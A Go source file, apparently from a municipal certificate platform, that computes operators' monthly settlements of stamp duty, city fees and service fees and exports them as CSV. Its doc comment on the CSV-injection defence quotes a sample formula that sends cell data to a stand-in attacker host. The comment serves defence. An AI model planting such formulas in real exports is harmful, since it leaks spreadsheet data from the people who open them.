// Package settlement computes what each operator owes after a month of
// issuing certificates at its counter: the imposta di bollo it collected
// for the State, the diritti di segreteria it collected for the city, and
// the service fee it keeps. Everything is integer cents, computed from the
// fee lines stored with each certificate at issuance, never recomputed
// from today's tariff: a settlement must match the receipts the citizens
// were given.
//
// Revoked certificates stay in the settlement: the citizen paid at the
// counter, and a revocation corrects the document, not the payment (a
// refund, when due, is a separate act of the city).
//
// Districts: the hub knows an operator's address, not the city's
// administrative map, so a district is derived from the address's CAP. A
// city may give a table from CAP to its own districts (Milan's municipi);
// without one, each CAP is its own district ("CAP 20131"). No such table
// is shipped because postal zones and municipi do not nest exactly.
package settlement

import (
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
	"time"

	"github.com/sportello/sportello/internal/certificate"
	"github.com/sportello/sportello/internal/fees"
	"github.com/sportello/sportello/internal/payment"
	"github.com/sportello/sportello/internal/protocol"
)

// ErrInvalid is wrapped by the errors for bad input.
var ErrInvalid = errors.New("invalid settlement input")

// Month is a calendar month in Rome.
type Month struct {
	Year  int
	Month time.Month
}

// MonthOf returns the Rome month of instant t.
func MonthOf(t time.Time) Month {
	r := t.In(protocol.Rome)
	return Month{r.Year(), r.Month()}
}

// ParseMonth reads "YYYY-MM".
func ParseMonth(s string) (Month, error) {
	t, err := time.Parse("2006-01", strings.TrimSpace(s))
	if err != nil {
		return Month{}, fmt.Errorf("%w: %q is not a month written YYYY-MM", ErrInvalid, s)
	}
	return Month{t.Year(), t.Month()}, nil
}

func (m Month) String() string { return fmt.Sprintf("%04d-%02d", m.Year, int(m.Month)) }

// Days returns the first and last day of the month.
func (m Month) Days() (from, to protocol.Day) {
	first := time.Date(m.Year, m.Month, 1, 12, 0, 0, 0, protocol.Rome)
	last := first.AddDate(0, 1, -1)
	return protocol.DayOf(first), protocol.DayOf(last)
}

// Prev and Next are the neighbouring months.
func (m Month) Prev() Month {
	return MonthOf(time.Date(m.Year, m.Month-1, 15, 12, 0, 0, 0, protocol.Rome))
}
func (m Month) Next() Month {
	return MonthOf(time.Date(m.Year, m.Month+1, 15, 12, 0, 0, 0, protocol.Rome))
}

// Operator is what a settlement says about the operator.
type Operator struct {
	ID       string
	Name     string
	District string
}

// Amounts are the sums of a set of certificates.
type Amounts struct {
	Certificates int   `json:"certificates"`
	Revoked      int   `json:"revoked"`
	BolloCents   int64 `json:"bollo_cents"`   // owed to the State
	DirittiCents int64 `json:"diritti_cents"` // owed to the city
	ServiceCents int64 `json:"service_cents"` // kept by the operator
	// ContrassegnoCents is the bollo paid with contrassegni telematici
	// (marche da bollo) the operator sold and applied: the State was paid
	// through the marca when the shop printed it, so it is owed neither to
	// the city nor, through the city, to the State (fees.Shares).
	ContrassegnoCents int64 `json:"contrassegno_cents"`
	// CollectedCents is what citizens paid at the counter.
	CollectedCents int64 `json:"collected_cents"`
	// PagoPACents is what citizens paid for this operator's self-service
	// certificates with a pagoPA notice (issue 15): money the city
	// collected, never held by the shop, so it is not in CollectedCents
	// and is taken off what the shop owes (DueCents); a sale paid at the
	// shop's till is the shop's, like a counter sale.
	PagoPACents int64 `json:"pagopa_cents"`
}

// DueCents is what the operator transfers to the city: bollo and diritti.
// The city accounts for the bollo to the State (it is paid "in modo
// virtuale" under art. 15 DPR 642/1972 by the issuing comune). A bollo
// paid by contrassegno is not part of it (ContrassegnoCents).
//
// The city already holds what was paid through pagoPA (PagoPACents),
// bollo, diritti and the shop's fee alike: it is taken off, so a month of
// pagoPA sales only leaves the city owing the shop its fees (a negative
// amount due).
func (a Amounts) DueCents() int64 { return a.BolloCents + a.DirittiCents - a.PagoPACents }

func (a *Amounts) add(b Amounts) {
	a.Certificates += b.Certificates
	a.Revoked += b.Revoked
	a.BolloCents += b.BolloCents
	a.DirittiCents += b.DirittiCents
	a.ServiceCents += b.ServiceCents
	a.ContrassegnoCents += b.ContrassegnoCents
	a.CollectedCents += b.CollectedCents
	a.PagoPACents += b.PagoPACents
}

// Line is one certificate of a settlement. It carries no personal data:
// a settlement goes to the operator's accountant.
type Line struct {
	ID       string
	Protocol string
	Issued   time.Time
	Types    []certificate.Type
	Channel  certificate.Channel
	Status   certificate.Status
	// PDFGone: retention deleted the PDF at the end of the city's
	// re-download window; the record and its hash are kept.
	PDFGone bool
	// ClerkID is the clerk who issued it at the counter (the shop knows
	// its clerks by id; the name stays out of the accountant's papers).
	ClerkID string
	// PaidWith is how a self-service certificate was paid: "till" (the
	// shop collected it) or "pagopa" (the city did); empty at the counter.
	PaidWith string
	Amounts
}

// TypeCount is the count and sums per certificate type (a contestuale
// counts under its first type).
type TypeCount struct {
	Type certificate.Type
	Amounts
}

// Settlement is one operator's month.
type Settlement struct {
	Operator Operator
	Month    Month
	Amounts
	ByType []TypeCount
	Lines  []Line
}

// Settle computes the settlement of operator op for month m from the
// records certbolt.ByOperator returns. It refuses records of another
// operator or month, and records whose fee lines do not add up to the total
// charged: a settlement built on them would be wrong.
func Settle(op Operator, m Month, recs []certificate.Record) (Settlement, error) {
	s := Settlement{Operator: op, Month: m, Lines: []Line{}}
	byType := map[certificate.Type]*TypeCount{}
	for i := range recs {
		r := &recs[i]
		if r.OperatorID != op.ID {
			return s, fmt.Errorf("%w: certificate %s was issued by operator %q, not %s", ErrInvalid, r.ID, r.OperatorID, op.ID)
		}
		if MonthOf(r.Issued) != m {
			return s, fmt.Errorf("%w: certificate %s was issued on %s, outside %s", ErrInvalid, r.ID, protocol.DayOf(r.Issued), m)
		}
		a, err := amountsOf(r)
		if err != nil {
			return s, err
		}
		s.add(a)
		s.Lines = append(s.Lines, Line{ID: r.ID, Protocol: r.Protocol, Issued: r.Issued, Types: r.Types, Channel: r.Channel, Status: r.Status, PDFGone: !r.PDFDeleted.IsZero(), ClerkID: r.ClerkID, PaidWith: r.PaidWith, Amounts: a})
		t := certificate.Type("")
		if len(r.Types) > 0 {
			t = r.Types[0]
		}
		if byType[t] == nil {
			byType[t] = &TypeCount{Type: t}
		}
		byType[t].add(a)
	}
	for _, tc := range byType {
		s.ByType = append(s.ByType, *tc)
	}
	sort.Slice(s.ByType, func(i, j int) bool {
		if s.ByType[i].Certificates != s.ByType[j].Certificates {
			return s.ByType[i].Certificates > s.ByType[j].Certificates
		}
		return s.ByType[i].Type < s.ByType[j].Type
	})
	sort.SliceStable(s.Lines, func(i, j int) bool { return s.Lines[i].Issued.Before(s.Lines[j].Issued) })
	return s, nil
}

func amountsOf(r *certificate.Record) (Amounts, error) {
	a := Amounts{Certificates: 1, CollectedCents: r.TotalCents}
	if r.PaidWith == string(payment.PagoPA) {
		a.CollectedCents, a.PagoPACents = 0, r.TotalCents
	}
	if r.Status == certificate.Revoked {
		a.Revoked = 1
	}
	var sum int64
	var sh fees.Shares
	for _, l := range r.Fees {
		if err := sh.Add(l); err != nil {
			return a, fmt.Errorf("%w: certificate %s has %v", ErrInvalid, r.ID, err)
		}
		sum += l.Cents
	}
	a.BolloCents, a.DirittiCents, a.ServiceCents, a.ContrassegnoCents = sh.State, sh.City, sh.Operator, sh.Contrassegno
	if sum != r.TotalCents {
		return a, fmt.Errorf("%w: the fee lines of certificate %s add up to %s but %s was charged", ErrInvalid, r.ID, fees.Euro(sum), fees.Euro(r.TotalCents))
	}
	return a, nil
}

// Districts maps a CAP to the name of the city's district.
type Districts map[string]string

// Of returns the district of an address's CAP.
func (d Districts) Of(cap string) string {
	cap = strings.TrimSpace(cap)
	if name, ok := d[cap]; ok {
		return name
	}
	if cap == "" {
		return "CAP ?"
	}
	return "CAP " + cap
}

// DistrictTotal sums the settlements of one district.
type DistrictTotal struct {
	District  string
	Operators int
	Amounts
}

// Total sums settlements.
func Total(ss []Settlement) Amounts {
	var t Amounts
	for _, s := range ss {
		t.add(s.Amounts)
	}
	return t
}

// ByDistrict sums settlements per district, in district order.
func ByDistrict(ss []Settlement) []DistrictTotal {
	m := map[string]*DistrictTotal{}
	for _, s := range ss {
		d := m[s.Operator.District]
		if d == nil {
			d = &DistrictTotal{District: s.Operator.District}
			m[s.Operator.District] = d
		}
		d.Operators++
		d.add(s.Amounts)
	}
	out := make([]DistrictTotal, 0, len(m))
	for _, d := range m {
		out = append(out, *d)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].District < out[j].District })
	return out
}

// Euro writes cents as "16.00", with a decimal point and no thousands
// separator (the settlement PDF's table).
func Euro(cents int64) string { return fees.Amount(cents, '.', 0) }

// CSVFormat is how a settlement's CSV separates fields and writes amounts.
type CSVFormat int

// The formats. Italian spreadsheets (Excel, LibreOffice Calc with Italian
// settings) read ',' as the decimal separator and therefore ';' as the
// field separator: a file written that way opens as columns of numbers
// with a double click. The comma variant, with decimal points, is for
// software and spreadsheets set up the English way.
const (
	ItalianCSV CSVFormat = iota // ';' between fields, "16,00"
	CommaCSV                    // ',' between fields, "16.00"
)

func (f CSVFormat) comma() rune {
	if f == CommaCSV {
		return ','
	}
	return ';'
}

// Amount writes cents with the format's decimal separator and no
// thousands separator, so a spreadsheet reads it as a number.
func (f CSVFormat) Amount(cents int64) string {
	if f == CommaCSV {
		return fees.Amount(cents, '.', 0)
	}
	return fees.Amount(cents, ',', 0)
}

// plainNumber reports whether a spreadsheet reads cell as a number,
// never a formula: an optional minus, digits, and at most one decimal
// separator followed by digits.
func plainNumber(cell string) bool {
	digits, sep := 0, false
	for i, c := range cell {
		switch {
		case c >= '0' && c <= '9':
			digits++
		case c == '-' && i == 0:
		case (c == '.' || c == ',') && !sep && digits > 0:
			sep = true
		default:
			return false
		}
	}
	return digits > 0 && cell[len(cell)-1] >= '0' && cell[len(cell)-1] <= '9'
}

// Neutral defuses a cell a spreadsheet would run as a formula: one that
// starts with '=', '+', '-' or '@', or with a tab, carriage return or
// line feed (which some spreadsheets skip before looking), gets a leading
// apostrophe, so it shows as the text it is (OWASP, "CSV Injection");
// leading spaces do not hide the sign. Operators' names and addresses
// come from their applications: a name such as
// =HYPERLINK("https://evil.example/?"&A1) must not run on a city clerk's
// computer. Plain numbers are left alone.
func Neutral(cell string) string {
	if cell == "" || plainNumber(cell) {
		return cell
	}
	if t := strings.TrimLeft(cell, " "); t != "" && strings.ContainsRune("=+-@\t\r\n", rune(t[0])) {
		return "'" + cell
	}
	return cell
}

// csvWriter writes rows with every cell neutralised.
type csvWriter struct{ w *csv.Writer }

func newCSV(w io.Writer, f CSVFormat) csvWriter {
	cw := csv.NewWriter(w)
	cw.Comma = f.comma()
	return csvWriter{cw}
}

func (c csvWriter) row(cells ...string) {
	for i := range cells {
		cells[i] = Neutral(cells[i])
	}
	c.w.Write(cells)
}

func (c csvWriter) flush() error {
	c.w.Flush()
	return c.w.Error()
}

// WriteCSV writes the settlement as CSV (RFC 4180 with the format's
// separator): one row per certificate, then a totals row. Times are
// Rome's.
func WriteCSV(w io.Writer, s Settlement, f CSVFormat) error {
	cw := newCSV(w, f)
	eur := f.Amount
	// contrassegno_eur, then pagamento and incassato_comune_eur come last
	// so the earlier columns keep their place for the spreadsheets already
	// built on them.
	cw.row("operatore", "mese", "certificato", "protocollo", "rilasciato", "tipi", "canale", "stato", "bollo_eur", "diritti_eur", "servizio_eur", "totale_eur", "contrassegno_eur",
		"pagamento", "incassato_comune_eur")
	for _, l := range s.Lines {
		types := make([]string, len(l.Types))
		for i, t := range l.Types {
			types[i] = string(t)
		}
		cw.row(s.Operator.ID, s.Month.String(), l.ID, l.Protocol, l.Issued.In(protocol.Rome).Format(time.RFC3339),
			strings.Join(types, "+"), string(l.Channel), string(l.Status),
			eur(l.BolloCents), eur(l.DirittiCents), eur(l.ServiceCents), eur(l.CollectedCents), eur(l.ContrassegnoCents),
			l.PaidWith, eur(l.PagoPACents))
	}
	cw.row(s.Operator.ID, s.Month.String(), "TOTALE", fmt.Sprint(s.Certificates), "", "", "", fmt.Sprintf("%d revocati", s.Revoked),
		eur(s.BolloCents), eur(s.DirittiCents), eur(s.ServiceCents), eur(s.CollectedCents), eur(s.ContrassegnoCents), "", eur(s.PagoPACents))
	return cw.flush()
}

// WriteSummaryCSV writes one row per operator and one per district.
func WriteSummaryCSV(w io.Writer, m Month, ss []Settlement, f CSVFormat) error {
	cw := newCSV(w, f)
	eur := f.Amount
	cw.row("mese", "livello", "operatore", "nome", "zona", "certificati", "revocati", "bollo_eur", "diritti_eur", "servizio_eur", "incassato_eur", "dovuto_al_comune_eur", "contrassegno_eur", "incassato_comune_pagopa_eur")
	row := func(level, id, name, district string, a Amounts) {
		cw.row(m.String(), level, id, name, district, fmt.Sprint(a.Certificates), fmt.Sprint(a.Revoked),
			eur(a.BolloCents), eur(a.DirittiCents), eur(a.ServiceCents), eur(a.CollectedCents), eur(a.DueCents()), eur(a.ContrassegnoCents), eur(a.PagoPACents))
	}
	for _, s := range ss {
		row("operatore", s.Operator.ID, s.Operator.Name, s.Operator.District, s.Amounts)
	}
	for _, d := range ByDistrict(ss) {
		row("zona", "", "", d.District, d.Amounts)
	}
	row("totale", "", "", "", Total(ss))
	return cw.flush()
}
